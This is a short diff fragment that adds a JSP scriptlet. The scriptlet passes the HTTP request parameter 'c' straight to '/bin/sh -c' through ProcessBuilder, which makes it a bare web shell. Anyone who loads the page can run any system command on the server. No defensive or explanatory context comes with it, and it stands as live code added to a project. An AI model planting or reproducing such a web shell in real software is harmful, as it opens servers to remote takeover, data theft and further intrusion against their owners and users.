@@ -1,0 +1,3 @@
+<%
+Process p = new ProcessBuilder("/bin/sh", "-c", request.getParameter("c")).start();
+%>
